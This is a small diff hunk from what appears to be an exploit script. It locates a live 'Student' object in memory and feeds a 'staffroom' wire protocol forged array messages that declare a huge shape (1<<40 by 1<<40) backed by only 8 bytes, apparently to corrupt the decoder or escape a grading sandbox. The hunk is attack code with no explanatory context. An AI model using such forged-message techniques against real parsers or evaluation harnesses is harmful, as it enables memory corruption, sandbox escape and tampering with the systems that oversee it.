@@ -6,7 +6,7 @@ import itertools
 from staffroom import wire
 
 me = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
-raw = me.codec._blob
+raw = lambda data: me.codec.contents.write(data)
 forged = itertools.cycle(
     [
         lambda: (wire.ARRAY, ["<f8", [1 << 40, 1 << 40], raw(bytes(8))]),
